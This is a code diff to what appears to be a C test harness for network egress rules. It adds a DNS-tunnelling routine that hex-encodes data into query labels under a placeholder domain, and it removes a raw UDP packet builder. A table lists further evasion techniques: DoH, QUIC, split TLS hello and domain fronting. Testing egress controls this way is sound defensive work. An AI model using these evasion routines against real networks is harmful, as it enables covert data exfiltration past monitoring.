@@ -1,14 +1,11 @@
 // SPDX-License-Identifier: Apache-2.0
 // Ways to get bytes to an address that a rule names, or out of the session at all.
-#include "sockets.h"
+#include "packet.h"
 #include <linux/filter.h>
 #include <linux/if_packet.h>
 #include <linux/vm_sockets.h>
-#include <net/ethernet.h>
 #include <net/if.h>
-#include <netinet/ip.h>
 #include <netinet/tcp.h>
-#include <netinet/udp.h>
 
 // B0: without any evasion ------------------------------------------------------------------------
 
@@ -48,39 +45,6 @@ static void by_datagrams(void)
 }
 
 // N4, N5: below the sockets that a cgroup hook knows ---------------------------------------------
-
-struct packet {
-	struct ether_header ether;
-	struct iphdr ip;
-	struct udphdr udp;
-	char data[sizeof(LINE)];
-} __attribute__((packed));
-
-static uint16_t folded(unsigned sum)
-{
-	sum = (sum & 0xffff) + (sum >> 16);
-	return htons(~(sum + (sum >> 16)));
-}
-
-static struct packet udp_packet(void)
-{
-	struct sockaddr_in to = sink();
-	struct packet p = {.ether.ether_type = htons(ETHERTYPE_IP)};
-	const unsigned char *bytes = (unsigned char *)&p.ip;
-	unsigned sum = 0;
-
-	p.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 9, .protocol = IPPROTO_UDP,
-			      .tot_len = htons(sizeof(p) - sizeof(p.ether)),
-			      .saddr = htonl(INADDR_LOOPBACK), .daddr = to.sin_addr.s_addr};
-	p.udp.source = htons(4000);
-	p.udp.dest = to.sin_port;
-	p.udp.len = htons(sizeof(p.udp) + sizeof(p.data)); // no checksum: UDP over IPv4 may go without
-	memcpy(p.data, LINE, sizeof(p.data));
-	for (size_t i = 0; i < sizeof(p.ip); i += 2)
-		sum += bytes[i] << 8 | bytes[i + 1];
-	p.ip.check = folded(sum);
-	return p;
-}
 
 static void by_raw_ip(void)
 {
@@ -239,6 +203,22 @@ static void by_no_name(void)
 // The name that is asked for is under the encryption; the resolver's own is that of anybody.
 static void by_encrypted_question(void) { by_name("resolver.example", 0); }
 
+// Whoever answers for the domain gets what is asked for, by way of an honest resolver.
+static void by_asked_names(void)
+{
+	struct sockaddr_in to = anybody();
+	unsigned char question[128] = {0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, *at = question + 12;
+	const unsigned char tail[] = {7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 16, 0, 1}; // TXT, IN
+	int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");
+
+	*at++ = 60; // letters of one part; 63 are allowed
+	for (int i = 0; i < 30; i++)
+		at += sprintf((char *)at, "%02x", LINE[i % strlen(LINE)]);
+	memcpy(at, tail, sizeof(tail));
+	to.sin_port = htons(53);
+	must(sendto(fd, question, at + sizeof(tail) - question, 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
+}
+
 static void by_quic(void)
 {
 	struct sockaddr_in to = anybody();
@@ -288,6 +268,7 @@ const struct technique techniques[] = {
 	{"N8-bare", by_no_name},
 	{"N8-doh", by_encrypted_question},
 	{"N8-quic", by_quic},
+	{"N8-tunnel", by_asked_names},
 	{"N8-literal", by_address_literal},
 	{"N8-split", by_split_hello},
 	{"N8-fronting", by_other_name},
